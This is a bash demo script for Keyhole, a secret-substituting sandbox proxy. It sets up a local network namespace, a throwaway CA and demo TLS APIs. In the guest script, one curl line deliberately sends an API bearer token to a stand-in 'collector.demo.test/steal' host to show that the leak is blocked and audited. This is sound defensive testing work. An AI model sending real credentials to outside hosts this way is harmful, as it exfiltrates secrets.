#!/usr/bin/env bash
# Keyhole's main job, end to end, on the builtin defaults and with no internet:
#   - a local "internet" (a network namespace) with a DNS server and a demo API over TLS,
#     its certificate from an upstream CA made afresh for this run (ECDSA P-256, names under
#     .demo.test only, no IP address) in the work folder: no CA key is ever kept;
#   - `keyhole run --secret DEMO_API_TOKEN@api.demo.test --upstream-ca <that CA> …` (no
#     policy file: the flags say what policies/demo.yaml says) boots the builtin guest
#     behind Keyhole;
#   - in the guest, curl calls the API with the placeholder $DEMO_API_TOKEN: the API
#     receives the real token; the same placeholder sent to another host is blocked;
#   - a short summary. Everything the demo creates is removed on exit.
set -euo pipefail
cd "$(dirname "$0")/.."
root=$PWD
keyhole=$root/.build/debug/keyhole
state=${KEYHOLE_STATE_DIR:-$root/.keyhole-demo}
id=khdemo$$
A=$id-a I=$id-i
work=$(mktemp -d /tmp/keyhole-demo-XXXXXX)  # mode 0700: it holds this run's upstream CA key
mkdir -p "$state"

cleanup() {
  for ns in $A $I; do
    ip netns pids $ns 2>/dev/null | xargs -r kill -9 2>/dev/null || true
    ip netns del $ns 2>/dev/null || true
    rm -rf /etc/netns/$ns
  done
  rm -rf "$work"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

# The real token: made up here, known to the host and the API, never to the guest.
export DEMO_API_TOKEN="demo-$(head -c 12 /dev/urandom | od -An -tx1 | tr -d ' \n')"

echo "== keyhole policy check policies/*.yaml"
GITHUB_TOKEN=x OPENAI_API_KEY=x MAPS_API_KEY=x REGISTRY_PASSWORD=x $keyhole policy check policies/*.yaml

echo "== keyhole image build (the builtin guest, from Debian packages; cached in $state)"
$keyhole image build --state-dir "$state"

echo "== a local internet: DNS 198.51.100.53, api.demo.test (203.0.113.10), collector.demo.test (203.0.113.66)"
ip netns add $A && ip netns add $I
ip -n $A link set lo up && ip -n $I link set lo up
ip link add $id-a1 netns $A type veth peer name $id-i1 netns $I
ip -n $A addr add 198.51.100.1/24 dev $id-a1 && ip -n $A link set $id-a1 up
ip -n $A route add 203.0.113.0/24 via 198.51.100.2
ip -n $I addr add 198.51.100.2/24 dev $id-i1 && ip -n $I link set $id-i1 up
ip -n $I addr add 198.51.100.53/32 dev lo
ip -n $I addr add 203.0.113.10/32 dev lo && ip -n $I addr add 203.0.113.66/32 dev lo
mkdir -p /etc/netns/$A && echo "nameserver 198.51.100.53" > /etc/netns/$A/resolv.conf
ip netns exec $I dnsmasq --no-resolv --no-hosts --listen-address=198.51.100.53 --bind-interfaces --port=53 \
  --address=/api.demo.test/203.0.113.10 --address=/collector.demo.test/203.0.113.66 --pid-file=$work/dnsmasq.pid
echo "== an upstream CA for this run only, deleted on exit: ECDSA P-256, names under .demo.test, no IP address"
# It can vouch for names under .demo.test and nothing else, never for an IP address, and
# cannot sign another CA. It signs the two APIs' certificates and is keyhole's upstream_ca.
cat > $work/upstream-ca.cnf <<'EOF'
[req]
distinguished_name = dn
x509_extensions = upstream_ca
prompt = no
[dn]
CN = Keyhole demo upstream CA (for *.demo.test only)
[upstream_ca]
basicConstraints = critical, CA:TRUE, pathlen:0
keyUsage = critical, keyCertSign, cRLSign
subjectKeyIdentifier = hash
authorityKeyIdentifier = keyid:always
nameConstraints = critical, permitted;DNS:.demo.test, excluded;IP:0.0.0.0/0.0.0.0, excluded;IP:::/::
EOF
openssl req -x509 -config $work/upstream-ca.cnf -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes \
  -keyout $work/upstream-ca.key -out $work/upstream-ca.pem -days 1 2>/dev/null
for name in api collector; do
  openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout $work/$name.key -out $work/$name.csr \
    -subj "/CN=$name.demo.test" 2>/dev/null
  printf "subjectAltName=DNS:$name.demo.test\nextendedKeyUsage=serverAuth\n" > $work/$name.ext
  openssl x509 -req -in $work/$name.csr -CA $work/upstream-ca.pem -CAkey $work/upstream-ca.key -CAcreateserial \
    -CAserial $work/ca.srl -out $work/$name.pem -days 1 -extfile $work/$name.ext 2>/dev/null
done
ip netns exec $I python3 demo/demo-api.py --bind 203.0.113.10 --name api.demo.test --cert $work/api.pem \
  --key $work/api.key --log $work/requests.log > $work/api.ready 2>&1 &
disown  # ended with the namespace by cleanup
ip netns exec $I python3 demo/demo-api.py --bind 203.0.113.66 --name collector.demo.test --cert $work/collector.pem \
  --key $work/collector.key --log $work/requests.log > $work/collector.ready 2>&1 &
disown
for _ in $(seq 50); do grep -q ready $work/api.ready $work/collector.ready 2>/dev/null && [ "$(cat $work/*.ready | grep -c ready)" = 2 ] && break; sleep 0.1; done

# What keyhole runs: the flags below say what policies/demo.yaml says (which names no
# upstream CA), plus this run's upstream CA; no policy file is needed.
run_flags=(--name demo --secret DEMO_API_TOKEN@api.demo.test --on-secret-violation block-and-log
           --upstream-ca "$work/upstream-ca.pem" --memory 512)

echo "== keyhole run --secret DEMO_API_TOKEN@api.demo.test --upstream-ca \$work/upstream-ca.pem … -- sh -c '…'   (the guest's view follows)"
guest_script='
echo "guest: DEMO_API_TOKEN=$DEMO_API_TOKEN"
echo "guest: curl https://api.demo.test/whoami with the placeholder"
curl -sS --max-time 20 -H "Authorization: Bearer $DEMO_API_TOKEN" https://api.demo.test/whoami
echo "guest: the same placeholder to https://collector.demo.test/steal"
if curl -sS --max-time 20 -H "Authorization: Bearer $DEMO_API_TOKEN" https://collector.demo.test/steal; then echo "guest: sent!"; else echo "guest: blocked (curl exit $?)"; fi
'
status=0
ip netns exec $A $keyhole run --state-dir "$state" --audit-log $work/audit.log "${run_flags[@]}" -- sh -c "$guest_script" || status=$?

echo
echo "== summary"
count() { local n; n=$(grep -c "$1" "$2" 2>/dev/null) || true; echo "${n:-0}"; }
real_seen=$(count '"host": "api.demo.test", "path": "/whoami", "token": "real"' $work/requests.log)
stolen=$(count 'collector.demo.test' $work/requests.log)
blocked=$(count '"event":"violation"' $work/audit.log)
substituted=$(count '"event":"substituted"' $work/audit.log)
leaked=$(count "$DEMO_API_TOKEN" $work/audit.log)
echo "keyhole run exit status:                        $status"
echo "api.demo.test received the real token:          $([ "$real_seen" -ge 1 ] && echo yes || echo NO)"
echo "collector.demo.test received any request:       $([ "$stolen" -eq 0 ] && echo no || echo YES)"
echo "audit: substitutions $substituted, violations blocked $blocked (the real token appears in the audit log $leaked times)"
[ "$status" -eq 0 ] && [ "$real_seen" -ge 1 ] && [ "$stolen" -eq 0 ] && [ "$blocked" -ge 1 ] && [ "$leaked" -eq 0 ] || { echo "demo: FAILED"; exit 1; }
echo "demo: OK"
